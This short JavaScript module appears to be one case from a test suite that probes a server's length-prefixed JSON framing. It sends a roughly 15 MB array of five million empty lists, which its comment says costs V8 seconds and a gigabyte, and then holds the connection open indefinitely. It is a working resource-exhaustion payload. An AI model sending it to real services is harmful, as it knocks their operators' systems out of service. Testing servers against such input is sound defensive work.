// verdict: lost
// without the bound of what a frame holds: harms engine

/** No longer than a frame may be, and full of empty lists: V8 takes seconds and a gigabyte for it. */
export default async ({ raw }) => {
  const body = Buffer.from(`[${"[],".repeat(5_000_000)}1]`);
  const header = Buffer.alloc(4);
  header.writeUInt32BE(body.length);
  await raw(Buffer.concat([header, body]));
  await new Promise(() => {});
};
